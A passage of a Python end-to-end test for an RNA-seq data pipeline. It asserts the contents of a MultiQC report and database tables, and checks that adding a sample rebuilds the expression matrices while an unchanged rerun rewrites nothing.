    report = f"{local.lake_root}/reports/rnaseq/1.0/project=e2e/{layout.run_key(first.run_id)}/multiqc_report.html"
    html = Path(report.removeprefix("file://")).read_text()
    named = set(re.findall(r'data-original-sn="([^"]+)"', html))
    assert named == {"R1", "R2", "TINY"}, "every sample of the run, under its own id in every section"
    assert "Sample outcomes" in html and "excluded" in html
    assert "the number of reads passing fastp's filters is" in html, "TINY's reason, from sample_outcomes"
    _, reports = engine.fetch("SELECT uri, samples, failed, excluded, excluded_samples FROM run_reports")
    assert reports == [(report, 3, 0, 1, "TINY")]
    _, where = engine.fetch("SELECT kind, format, n_samples, samples FROM rnaseq_matrices ORDER BY kind, format")
    assert [row[:2] for row in where] == [(k, f) for k in ("counts_length_scaled", "lengths", "tpm")
                                          for f in ("parquet", "tsv")]
    assert {row[2:] for row in where} == {(2, "R1,R2")}

    second = dag.test(run_conf={**conf, "samples": ["R3"]})
    assert second.state == "success"
    _check_matrices(lake, ["R1", "R2", "R3"])  # a sample added: rebuilt over every complete sample
    _, where = engine.fetch("SELECT DISTINCT n_samples, samples FROM rnaseq_matrices")
    assert where == [(3, "R1,R2,R3")], "the table points at the current matrices only"

    files = sorted((lake / "results/rnaseq/1.0/project=e2e/matrices").iterdir())
    written = {path.name: path.stat().st_mtime_ns for path in files}
    assert dag.test(run_conf={**conf, "samples": ["R3"]}).state == "success"
    assert {path.name: path.stat().st_mtime_ns for path in files} == written, "unchanged inputs: nothing rewritten"
    _, reports = engine.fetch("SELECT count(*) FROM run_reports")
    assert reports == [(2,)], "one report per run that ran jobs (the unchanged rerun ran none, and wrote none)"
